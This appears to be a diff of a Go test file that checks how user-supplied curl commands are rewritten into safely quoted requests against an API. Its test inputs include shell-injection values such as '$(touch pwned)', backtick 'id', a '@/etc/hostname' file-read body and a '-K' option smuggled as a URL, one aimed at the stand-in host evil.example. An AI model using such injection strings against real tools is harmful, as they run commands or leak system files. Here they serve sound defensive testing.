@@ -3,6 +3,7 @@
 package checks
 
 import (
+	"os"
 	"os/exec"
 	"slices"
 	"strings"
@@ -19,17 +20,25 @@ func TestCurlCommand(t *testing.T) {
 		"another host": {
 			`curl https://evil.example/v1/x -H 'X-A: $(touch pwned) '\''b' -d $'{"text":"it\'s \x60id\x60 $HOME\\n"}'`,
 			[]string{
-				"-i", "-X", "POST", "https://evil.example/v1/x", "-H", "Authorization: Bearer the key",
-				"-H", "Content-Type: application/x-www-form-urlencoded", "-H", "X-A: $(touch pwned) 'b", "--data-binary", `{"text":"it's ` + "`id`" + ` $HOME\n"}`,
+				"-g", "-i", "-X", "POST", "https://evil.example/v1/x",
+				"-H", "Content-Type: application/x-www-form-urlencoded", "-H", "X-A: $(touch pwned) 'b", "--data-raw", `{"text":"it's ` + "`id`" + ` $HOME\n"}`,
 			},
 		},
 		"a password": {
 			`curl https://user:secret99@api.klyra.live/v1/x -I`,
-			[]string{"-I", "https://api.klyra.live/v1/x", "-H", "Authorization: Bearer the key"},
+			[]string{"-g", "-I", "https://api.klyra.live/v1/x", "-H", "Authorization: Bearer the key"},
+		},
+		"a body that names a file": {
+			"curl https://api.klyra.live/v1/x --data-raw @/etc/hostname -H 'Content-Type: text/plain'",
+			[]string{"-g", "-i", "-X", "POST", "https://api.klyra.live/v1/x", "-H", "Authorization: Bearer the key", "-H", "Content-Type: text/plain", "--data-raw", "@/etc/hostname"},
+		},
+		"an option for an address": {
+			`{"request":{"method":"GET","url":"-K/v1/x://a.b/c","headers":[{"name":"A","value":"b"}]}}`,
+			[]string{"-g", "-i", "-X", "GET", "--url", "-K/v1/x://a.b/c", "-H", "A: b"},
 		},
 		"a file": {
 			`curl -X PUT https://api.klyra.live/v1/x --data-binary @a.png -H 'Content-Type: image/png'`,
-			[]string{"-i", "-X", "PUT", "https://api.klyra.live/v1/x", "-H", "Authorization: Bearer the key", "-H", "Content-Type: image/png", "--data-binary", "@BODY"},
+			[]string{"-g", "-i", "-X", "PUT", "https://api.klyra.live/v1/x", "-H", "Authorization: Bearer the key", "-H", "Content-Type: image/png", "--data-binary", "@BODY"},
 		},
 	} {
 		command := Prepare(asked(t, api, c.text), "").Command
@@ -42,6 +51,37 @@ func TestCurlCommand(t *testing.T) {
 		}
 		if len(command.Title) > 60 {
 			t.Errorf("%q is too long for a title", command.Title)
+		}
+	}
+}
+
+// TestCurlSendsTheBodyItself runs the command: no body names a file, and no address is a pattern.
+func TestCurlSendsTheBodyItself(t *testing.T) {
+	for _, body := range []string{"@/etc/hostname", "{1,2}", "it's `id` $HOME", "-K/etc/hostname"} {
+		var seen arrivals
+		api := apiOn(t, seen.handler(200, nil, "{}"))
+		command := Prepare(asked(t, api, "curl 'API/v1/{1,2}[3-4]?q={a,b}' -H 'Content-Type: text/plain' --data-raw "+ShellQuoted(body)), "").Command
+		sh := exec.CommandContext(inTime(t), "sh", "-c", command.Text)
+		sh.Env = append(os.Environ(), "KLYRA_API_KEY=the key", "NO_PROXY=*")
+		out, err := sh.CombinedOutput()
+		if err != nil || seen.count() != 1 {
+			t.Errorf("%q: %v, %d requests came\n%s\n%s", body, err, seen.count(), command.Text, out)
+			continue
+		}
+		got := seen.all[0]
+		if seen.bodies[0] != body || got.Method != "POST" || got.RequestURI != "/v1/%7B1,2%7D%5B3-4%5D?q={a,b}" || got.Header.Get("Authorization") != "Bearer the key" {
+			t.Errorf("%s %s with %q came, want %q", got.Method, got.RequestURI, seen.bodies[0], body)
+		}
+	}
+}
+
+func TestShellQuoted(t *testing.T) {
+	for word, want := range map[string]string{
+		"": "''", "a": "a", "https://h:1/a.b_c-d": "https://h:1/a.b_c-d", "a b": "'a b'", "it's": `'it'\''s'`, "$HOME": "'$HOME'",
+		"~": "'~'", "a=b": "'a=b'", "{1,2}": "'{1,2}'", "a*": "'a*'", "é": "'é'", "a\nb": "'a\nb'", "a;b": "'a;b'", "#": "'#'",
+	} {
+		if got := ShellQuoted(word); got != want {
+			t.Errorf("%q: %s, want %s", word, got, want)
 		}
 	}
 }
